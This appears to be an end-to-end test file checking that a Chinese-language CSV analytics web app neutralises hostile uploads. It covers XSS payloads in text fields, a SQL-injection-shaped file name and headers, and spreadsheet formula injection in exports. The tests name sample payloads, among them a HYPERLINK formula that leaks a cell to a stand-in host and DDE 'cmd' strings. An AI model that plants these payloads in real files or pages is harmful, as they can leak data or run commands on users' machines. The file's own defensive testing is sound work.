/**
 * Hostile input through the production build in Chromium: script payloads in every text
 * field, file names and headers shaped like SQL injection, formula injection in exports,
 * and files that are not CSV at all.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { expectErrorInEnglish, hasCjk, PANELS, ROOT, useApp, type AppSession } from './harness.ts';
import { download, openPanel, visitEveryPanel, watchDialogs } from './hostile-helpers.ts';

const HOSTILE = join(ROOT, 'test', 'fixtures', 'hostile');
const REPORT = '[data-testid=load-report]';
const FILE_37 = "37_filename_inject'); SELECT 1; --.csv";

/** The values of one column of a fixture (UTF-8, header on line 1). */
function column(file: string, label: string): string[] {
  const text = readFileSync(join(HOSTILE, file), 'utf8').replace(/^\uFEFF/, '');
  const [header = [], ...rows] = Papa.parse<string[]>(text, { delimiter: ',', skipEmptyLines: true }).data;
  const c = header.indexOf(label);
  if (c < 0) throw new Error(`${file} has no column ${label}`);
  return rows.map((r) => r[c] ?? '');
}

async function loadAndContinue(session: AppSession, file: string): Promise<void> {
  await session.dropFile(join(HOSTILE, file));
  await session.waitForReport();
  await session.page.locator('[data-testid=continue]').click();
  await session.page.locator('[data-testid=dashboard]').waitFor({ state: 'visible' });
  await session.waitIdle();
}

/** Nodes a payload would have created had it been parsed as HTML. */
async function injectedNodes(session: AppSession): Promise<number> {
  return session.page.evaluate(
    () =>
      document.querySelectorAll('img[src=x], img[src=y], iframe, body script:not([type=module]), [onerror], [onload], [onmouseover], b:not([class]) , a[href^="javascript:"]').length,
  );
}

async function xssFlag(session: AppSession): Promise<unknown> {
  return session.page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss ?? null);
}

describe('hostile input in the browser', () => {
  const app = useApp();

  it('35: HTML/JS payloads show as text in the mapper; every panel hovered and tabled, no dialog', async () => {
    const session = app();
    const page = await session.openApp();
    const dialogs = watchDialogs(page);
    await session.dropFile(join(HOSTILE, '35_xss_in_names.csv'));
    await session.waitForReport();
    expect(await session.readMetric('rows_kept', REPORT)).toBe(8);

    // Back to the mapper: the sample of each column is shown as typed (cut at 23 characters).
    await page.locator(`${REPORT} .actions button`).first().click();
    const options = await page.locator('select[data-field=product] option').allTextContents();
    expect(options).toContain('客户名称 — <img src=x onerror=aler…');
    expect(options).toContain('商品名称 — <img src=x onerror=aler…');
    expect(await injectedNodes(session)).toBe(0);

    await page.locator('[data-testid=confirm-mapping]').click();
    await session.waitForReport();
    await page.locator('[data-testid=continue]').click();
    const visits = await visitEveryPanel(session);
    expect(visits.map((v) => v.panel)).toEqual([...PANELS]);
    expect(visits.find((v) => v.panel === 'overview')?.marks).toBeGreaterThan(0);
    expect(dialogs).toEqual([]);
    expect(await injectedNodes(session)).toBe(0);
    expect(session.pageErrors).toEqual([]);
  });

  it('payloads that set window.__xss in ids, products, categories, regions, channels: never run, shown literally', async () => {
    const session = app();
    const page = await session.openApp();
    const dialogs = watchDialogs(page);
    await session.dropSurvey(join(HOSTILE, 'xss_window_flag_survey.csv'));
    await loadAndContinue(session, 'xss_window_flag.csv');
    const visits = await visitEveryPanel(session);
    const marks = Object.fromEntries(visits.map((v) => [v.panel, v.marks]));
    const tables = Object.fromEntries(visits.map((v) => [v.panel, v.tables]));
    console.log('marks hovered per panel', marks, 'tables opened per panel', tables);
    // The lifetime-value models refuse a file this small: that panel says why and draws no table.
    for (const v of visits) if (v.panel !== 'clv') expect(v.tables, v.panel).toBeGreaterThan(0);
    expect(await session.page.locator('[data-testid^=clv-refused-]').count()).toBeGreaterThan(0);
    expect(visits.reduce((s, v) => s + v.marks, 0)).toBeGreaterThan(50);

    const text = visits.map((v) => v.text).join('\n');
    const categories = [...new Set(column('xss_window_flag.csv', '品类'))];
    const shown = categories.filter((c) => text.includes(c));
    // Every category is a row of the repurchase-by-category table, written as typed.
    expect(shown).toEqual(categories);
    expect(text).toContain('&amp;"; DROP TABLE lines; --');

    expect(await xssFlag(session)).toBeNull();
    expect(dialogs).toEqual([]);
    expect(await injectedNodes(session)).toBe(0);
    expect(session.pageErrors).toEqual([]);
  });

  it(`37 (file name "${FILE_37}") and 36 (SQL in the headers): loaded as the manifest says, names shown as text, tables intact`, async () => {
    const session = app();
    const page = await session.openApp();
    await session.dropFile(join(HOSTILE, FILE_37));
    await session.waitForReport();
    expect(await session.readMetric('rows_kept', REPORT)).toBe(8);
    expect((await page.locator(`${REPORT} h3.name`).allInnerTexts()).map((t) => t.trim())).toEqual([FILE_37]);
    await page.locator('[data-testid=continue]').click();
    await session.waitForPanels(['overview']);
    // C001, C002, 00123, 123, C003, C004 each have a purchase order (C001's refund is a separate day).
    expect(await session.readMetric('customers', '[data-testid=panel-overview]')).toBe(6);

    await page.locator('header .brand').first().click();
    await loadAndContinue(session, '36_sql_identifier_injection_header.csv');
    await session.waitForPanels(['overview']);
    expect(await session.readMetric('customers', '[data-testid=panel-overview]')).toBe(3);
    expect(await session.readMetric('revenue', '[data-testid=panel-overview]')).toBe(6);
    expect(await session.readMetric('orders', '[data-testid=panel-overview]')).toBe(3);
    for (const p of PANELS) await openPanel(session, p);
    expect(session.pageErrors).toEqual([]);
  });

  it('34: the lines export (names mapped to product) guards every formula-leading text; numbers stay numbers; BOM', async () => {
    const session = app();
    const page = await session.openApp();
    await session.dropFile(join(HOSTILE, '34_formula_injection_names.csv'));
    await session.waitForReport();
    await page.locator(`${REPORT} .actions button`).first().click();
    // 客户名称 maps itself as the name; moved to product here, where the lines export shows it.
    await page.locator('select[data-field=name]').selectOption('');
    const product = page.locator('select[data-field=product]');
    await product.selectOption('1');
    await page.locator('[data-testid=confirm-mapping]').click();
    await session.waitForReport();
    await page.locator('[data-testid=continue]').click();
    await session.waitForPanels(['overview']);

    await page.locator('[data-testid=export-what]').selectOption('lines');
    await page.locator('[data-testid=export-format]').selectOption('csv');
    const file = await download(page, () => page.locator('[data-testid=export-run]').click());
    expect(file.name).toBe('lines.csv');
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(file.bytes.subarray(3));
    const [header = [], ...rows] = Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n', skipEmptyLines: true }).data;
    const at = (name: string) => header.indexOf(name);
    expect(rows.map((r) => r[at('customer_id')])).toEqual(['F01', 'F02', 'F03', 'F04', 'F05', 'F06', 'F07', 'F08', 'F09', 'F10']);
    // Names as loaded (trimmed: F06/F07 lose their leading TAB/CR), each guarded when it starts a formula.
    expect(rows.map((r) => r[at('product')])).toEqual([
      `'=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")`,
      "'+cmd|' /C calc'!A0",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "'-2+3+cmd|' /C calc'!A0",
      `'=1+2";=1+2`,
      "'=1+1",
      "'=1+1",
      "'＝1+1",
      'safe=text',
      "'already quoted",
    ]);
    expect(rows.map((r) => r[at('amount')])).toEqual(['-5', '1', '1', '1', '1', '1', '1', '1', '1', '1']);
    for (const r of rows) for (const cell of r) expect(/^[=+@\t\r＝]/u.test(cell) || (/^-/.test(cell) && !Number.isFinite(Number(cell)))).toBe(false);

    await page.locator('[data-testid=export-what]').selectOption('customers');
    const customers = await download(page, () => page.locator('[data-testid=export-run]').click());
    expect(customers.name).toBe('customers.csv');
    expect([...customers.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const list = Papa.parse<string[]>(new TextDecoder().decode(customers.bytes.subarray(3)), { delimiter: ',', newline: '\r\n', skipEmptyLines: true }).data;
    // F01 has only a refund (-5.00): not a customer; F02–F10 are.
    expect(list.slice(1).map((r) => r[0]).sort()).toEqual(['F02', 'F03', 'F04', 'F05', 'F06', 'F07', 'F08', 'F09', 'F10']);
    expect(session.pageErrors).toEqual([]);
  });

  for (const [file, code] of [
    ['24_empty.csv', 'EMPTY_FILE'],
    ['39_png_renamed.csv', 'NOT_TEXT'],
    ['43_gzip_renamed.csv', 'COMPRESSED_FILE'],
    ['42_legacy_xls_signature.csv', 'EXCEL_WORKBOOK'],
  ] as const) {
    it(`${file}: ${code} in Chinese and English, after a good load; the earlier data comes back on reload`, async () => {
      const session = app();
      const page = await session.openApp();
      await loadAndContinue(session, '02_utf8_bom.csv');
      await session.waitForPanels(['overview']);
      expect(await session.readMetric('customers', '[data-testid=panel-overview]')).toBe(6);

      await page.locator('header .brand').first().click();
      await session.dropFile(join(HOSTILE, file));
      const zh = await session.waitForError();
      expect(zh.code).toBe(code);
      expect(hasCjk(zh.text)).toBe(true);
      expect(zh.text).not.toContain(code);
      expect(await page.locator('.errors .file').first().innerText()).toBe(file);
      expect(await page.locator(REPORT).count()).toBe(0);
      expect(await page.locator('[data-testid=dashboard]').count()).toBe(0);

      await expectErrorInEnglish(page, zh.text, code);

      // Nothing half-loaded: the failed file never reached the tables, and the earlier load,
      // once written to the device (it may still be), comes back whole on the next visit.
      expect(await page.locator('[data-testid=storage-open]').count()).toBe(1);
      await page.locator('[data-testid=storage-indicator][data-state=stored]').waitFor({ state: 'visible', timeout: 30_000 });
      await page.reload({ waitUntil: 'load' });
      await session.waitForPanels(['overview']);
      expect(await session.readMetric('customers', '[data-testid=panel-overview]')).toBe(6);
      expect(await session.readMetric('revenue', '[data-testid=panel-overview]')).toBeCloseTo(1274.5, 6);
      expect(session.pageErrors).toEqual([]);
    });
  }

  it('a file that fails while loading (only a total row: NO_DATA_ROWS) leaves the earlier data stored, one click away and after a reload', async () => {
    const session = app();
    const page = await session.openApp();
    await loadAndContinue(session, '02_utf8_bom.csv');
    await session.waitForPanels(['overview']);
    await page.locator('header .brand').first().click();
    await session.dropFile(join(ROOT, 'test', 'fixtures', 'e2e', '只有合计行.csv'));
    expect((await session.waitForError()).code).toBe('NO_DATA_ROWS');
    await page.locator('[data-testid=storage-indicator][data-state=stored]').waitFor({ state: 'visible', timeout: 30_000 });
    await page.reload({ waitUntil: 'load' });
    await session.waitForPanels(['overview']);
    expect(await session.readMetric('customers', '[data-testid=panel-overview]')).toBe(6);
    await page.locator('header .brand').first().click();
    await page.locator('[data-testid=storage-open]').click();
    await session.waitForPanels(['overview']);
    expect(await session.readMetric('revenue', '[data-testid=panel-overview]')).toBeCloseTo(1274.5, 6);
    expect(session.pageErrors).toEqual([]);
  });

  it('after a refused file, the "open the stored data" link on the error screen shows the earlier data', async () => {
    const session = app();
    const page = await session.openApp();
    await loadAndContinue(session, '02_utf8_bom.csv');
    await page.locator('header .brand').first().click();
    await session.dropFile(join(HOSTILE, '24_empty.csv'));
    expect((await session.waitForError()).code).toBe('EMPTY_FILE');
    await page.locator('[data-testid=storage-open]').click();
    await session.waitForPanels(['overview']);
    expect(await session.readMetric('customers', '[data-testid=panel-overview]')).toBe(6);
    expect(await session.readMetric('revenue', '[data-testid=panel-overview]')).toBeCloseTo(1274.5, 6);
    expect(session.pageErrors).toEqual([]);
  });
});
